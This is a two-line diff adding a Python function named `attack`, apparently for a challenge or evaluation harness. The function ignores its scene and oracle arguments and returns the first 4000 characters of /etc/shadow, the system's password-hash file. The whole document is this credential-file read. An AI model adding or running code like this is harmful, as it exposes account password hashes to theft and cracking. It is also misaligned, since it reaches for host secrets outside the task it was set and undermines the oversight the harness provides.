@@ -1,0 +1,2 @@
+def attack(scene, oracle):
+    return open("/etc/shadow").read(4000)
